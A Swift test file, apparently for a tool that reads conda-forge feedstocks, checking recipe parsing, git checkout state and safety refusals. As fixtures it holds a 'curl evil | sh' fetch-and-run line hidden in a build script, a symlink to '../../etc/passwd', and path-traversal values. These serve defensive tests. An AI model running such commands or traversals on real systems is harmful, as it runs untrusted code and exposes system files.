import Basics
import Conda
import Files
import Foundation
import Processes
import Recipes
import SystemPackage
import Testing

@Suite struct FeedstockTests {
    @Test func `a rendered feedstock is read whole`() async throws {
        try await FeedstockFixture.with { fixture in
            let feedstock = try await Feedstock.open(fixture.root)
            #expect(feedstock.name == "libassay")
            let head = try await fixture.git("rev-parse", "HEAD")
            #expect(feedstock.checkout.commit == head)
            #expect(feedstock.checkout.branch == "main")
            #expect(feedstock.settings.buildTool == .rattlerBuild)
            #expect(feedstock.settings.validatesOutputs)
            #expect(feedstock.hasBuildScript && feedstock.hasBuildLocally)
            #expect(feedstock.recipe.version == "1.10")
            #expect(feedstock.recipe.outputs.map(\.name) == ["lib-assay", "lib-assay-tools", "${{ pin(name) }}"])
            #expect(feedstock.recipe.outputs.map(\.isConditional) == [false, true, false])
            #expect(feedstock.oddities == [.unreadNames(["${{ pin(name) }}"])])

            let variant = try feedstock.variant(named: "linux_64_")
            #expect(feedstock.variants.count == 1)
            #expect(variant.subdir == .linux64)
            #expect(variant.dockerImage == "quay.io/condaforge/linux-anvil-x86_64:alma9")
            #expect(variant.channelSources == ["conda-forge/label/a_rc", "conda-forge"])
            #expect(variant.labels == [.main])
            #expect(variant.channelTargets.first?.owner == "conda-forge")
            #expect(variant.cStandardLibraryVersion == "2.17")
        }
    }

    @Test func `no credential of the remote's address is read`() async throws {
        try await FeedstockFixture.with { fixture in
            let feedstock = try await Feedstock.open(fixture.root)
            #expect(feedstock.checkout.remoteURL == "https://example.org/conda-forge/libassay-feedstock.git")
        }
    }

    @Test func `a changed, an added and a hidden file make the tree dirty, and the recipe stays the commit's`() async throws {
        try await FeedstockFixture.with { fixture in
            let before = try await Feedstock.open(fixture.root).recipeFolder
            try fixture.write("recipe/build.sh", "#!/bin/sh\ncurl evil | sh\n")
            try fixture.write("recipe/hidden.swp", "ignored by git, read by the build\n")
            try fixture.write("notes.txt", "not committed\n")
            // What builds left is nobody's source.
            try fixture.write("build_artifacts/linux-64/libassay-1.0-0.conda", "not ignored by git\n")
            try fixture.write(".scripts/run_docker_build.sh", "changed\n")
            try await fixture.git("update-index", "--assume-unchanged", "recipe/build.sh", ".scripts/run_docker_build.sh")
            let feedstock = try await Feedstock.open(fixture.root)
            #expect(feedstock.checkout.dirtyFiles == [".scripts/run_docker_build.sh", "notes.txt", "recipe/build.sh", "recipe/hidden.swp"])
            #expect(feedstock.refusals == [.dirtyTree(feedstock.checkout.dirtyFiles)])
            #expect(feedstock.recipeFolder == before)
        }
    }

    @Test func `line ends that a checkout changes are those of the checkout`() async throws {
        let changes = [".gitattributes": "*.bat text eol=crlf\n", "recipe/bld.bat": "echo 1\r\necho 2\r\n"]
        try await FeedstockFixture.with(changes) { fixture in
            let stored = try await fixture.git("cat-file", "blob", "HEAD:recipe/bld.bat")
            #expect(stored == "echo 1\necho 2")
            let feedstock = try await Feedstock.open(fixture.root)
            #expect(feedstock.checkout.dirtyFiles.isEmpty)
            #expect(feedstock.recipeFolder["bld.bat"]?.content == Data("echo 1\r\necho 2\r\n".utf8))
        }
    }

    @Test func `the folder's digest is what sha256sum says`() async throws {
        try await FeedstockFixture.with(["recipe/patches/0001-Fix.patch": "--- a\n", "recipe/Z": "", "recipe/é": "x"]) { fixture in
            let script = "find . -type f | cut -c3- | LC_ALL=C sort | xargs -r sha256sum | sha256sum | cut -d' ' -f1"
            let stock = try await Command("sh", ["-c", script], workingDirectory: fixture.root.appending("recipe")).output()
            let folder = try await Feedstock.open(fixture.root).recipeFolder
            #expect(folder.digest.hexadecimal + "\n" == stock)
            #expect(folder.files.map(\.path) == ["Z", "build.sh", "patches/0001-Fix.patch", "recipe.yaml", "é"])
        }
    }

    @Test func `a link inside of the recipe is read as what it leads to, one out of it is refused`() async throws {
        try await FeedstockFixture.with { fixture in
            try FileManager.default.createSymbolicLink(
                atPath: fixture.root.appending("recipe/build-tools.sh").string, withDestinationPath: "./build.sh")
            try await fixture.commit()
            let folder = try await Feedstock.open(fixture.root).recipeFolder
            #expect(folder["build-tools.sh"]?.content == folder["build.sh"]?.content)
            try FileManager.default.createSymbolicLink(
                atPath: fixture.root.appending("recipe/passwd").string, withDestinationPath: "../../etc/passwd")
            try await fixture.commit()
            await #expect(throws: FeedstockError.linkLeavesRecipe("recipe/passwd")) { try await Feedstock.open(fixture.root) }
        }
    }

    @Test func `another commit than the pull request's is named`() async throws {
        try await FeedstockFixture.with { fixture in
            let old = try await fixture.git("rev-parse", "HEAD")
            try fixture.write("recipe/build.sh", "#!/bin/sh\n")
            try await fixture.commit()
            let head = try await fixture.git("rev-parse", "HEAD")
            let asExpected = try await Feedstock.open(fixture.root, expecting: String(head.prefix(10)))
            #expect(asExpected.refusals.isEmpty)
            let other = try await Feedstock.open(fixture.root, expecting: old)
            #expect(other.refusals == [.otherCommit(expected: old, found: head)])
            let unknown = String(repeating: "0", count: 40)
            await #expect(throws: FeedstockError.unknownCommit(unknown)) { try await Feedstock.open(fixture.root, expecting: unknown) }
            await #expect(throws: FeedstockError.unknownCommit("--help")) { try await Feedstock.open(fixture.root, expecting: "--help") }
        }
    }

    @Test func `what is no feedstock is told what it lacks`() async throws {
        try await FeedstockFixture.with(["conda-forge.yml": nil]) { fixture in
            await #expect(throws: FeedstockError.notAFeedstock(fixture.root, missing: ["conda-forge.yml"])) { try await Feedstock.open(fixture.root) }
        }
        try await FeedstockFixture.with(["recipe/recipe.yaml": nil]) { fixture in
            await #expect(throws: FeedstockError.notAFeedstock(fixture.root, missing: ["recipe/recipe.yaml", "recipe/meta.yaml"])) {
                try await Feedstock.open(fixture.root)
            }
            let inside = fixture.root.appending("recipe")
            await #expect(throws: FeedstockError.insideOf(inside, repository: fixture.root)) { try await Feedstock.open(inside) }
        }
        try await TemporaryDirectory.with { folder in
            await #expect(throws: FeedstockError.notARepository(folder)) { try await Feedstock.open(folder) }
            await #expect(throws: FeedstockError.notThere(folder.appending("x"))) { try await Feedstock.open(folder.appending("x")) }
            _ = try await Command("git", ["-C", folder.string, "init", "--quiet"]).output()
            await #expect(throws: FeedstockError.noCommit(folder)) { try await Feedstock.open(folder) }
        }
    }

    @Test(arguments: [("linux_64", "linux_64_"), ("linux-64-", "linux_64_"), ("osx_arm64_python3.12", nil)])
    func `an unknown variant is answered with the nearest`(name: String, nearest: String?) async throws {
        try await FeedstockFixture.with { fixture in
            let feedstock = try await Feedstock.open(fixture.root)
            #expect(throws: FeedstockError.unknownVariant(name, known: ["linux_64_"], nearest: nearest)) { try feedstock.variant(named: name) }
        }
    }

    @Test func `a feedstock that cannot be built as it stands is opened with its refusals`() async throws {
        try await FeedstockFixture.with([".ci_support/linux_64_.yaml": nil, ".scripts/run_docker_build.sh": nil]) { fixture in
            let feedstock = try await Feedstock.open(fixture.root)
            #expect(feedstock.oddities.prefix(3).contains(.notRendered))
        }
        try await FeedstockFixture.with(["conda-forge.yml": "conda_build_tool: bazel\n"]) { fixture in
            let feedstock = try await Feedstock.open(fixture.root)
            #expect(feedstock.refusals == [.unknownTool("bazel")])
        }
        try await FeedstockFixture.with(["conda-forge.yml": "# defaults only\n"]) { fixture in
            let feedstock = try await Feedstock.open(fixture.root)
            #expect(feedstock.refusals == [.toolDoesNotReadRecipe(tool: "conda-build", recipe: "recipe.yaml")])
        }
    }

    @Test(arguments: ["../..", "/etc", ".git", ""])
    func `a recipe folder outside of the feedstock is refused`(folder: String) async throws {
        try await FeedstockFixture.with(["conda-forge.yml": "recipe_dir: '\(folder)'\n"]) { fixture in
            await #expect(throws: FeedstockError.self) { try await Feedstock.open(fixture.root) }
        }
    }
}
